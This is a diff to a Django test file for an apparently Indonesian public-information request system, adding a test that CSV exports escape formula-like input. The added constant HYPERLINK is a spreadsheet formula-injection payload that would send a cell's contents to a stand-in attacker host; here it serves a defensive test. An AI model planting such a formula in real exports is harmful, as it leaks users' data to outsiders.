@@ -6,7 +6,9 @@ objections; neither sees the requester's full ID number, and no export or report
 carries the requester's identity.
 """
 
+import csv
 import datetime
+import io
 from http import HTTPStatus
 from urllib.parse import urlsplit
 
@@ -46,6 +48,7 @@ ROLES = [EDITOR, ATASAN, MODERATOR, PUPR, ANONYMOUS]
 PPID = {EDITOR, ATASAN}
 DENIED = {HTTPStatus.NOT_FOUND, HTTPStatus.FORBIDDEN, HTTPStatus.FOUND}
 NIK = "1205011203850001"
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
 
 
 def make_user(role):
@@ -230,6 +233,20 @@ def test_the_export_has_no_requester_identity(editor_client, permohonan):
     assert permohonan.kode_lacak in content
     for secret in ("Budi Santoso", NIK, "budi.santoso@example.com", "081298765432"):
         assert secret not in content
+
+
+def test_the_export_shows_a_formula_like_request_as_text(editor_client):
+    permohonan = create_kip_request(informasi_diminta=HYPERLINK)
+    response = editor_client.get(
+        reverse("permohonan_informasi:index"), {"export": "csv"}
+    )
+    content = b"".join(response.streaming_content).decode()
+    row = next(
+        row
+        for row in csv.reader(io.StringIO(content))
+        if row[0] == permohonan.kode_lacak
+    )
+    assert row[1] == "'" + HYPERLINK
 
 
 def test_the_list_keeps_a_constant_number_of_queries(editor_client):
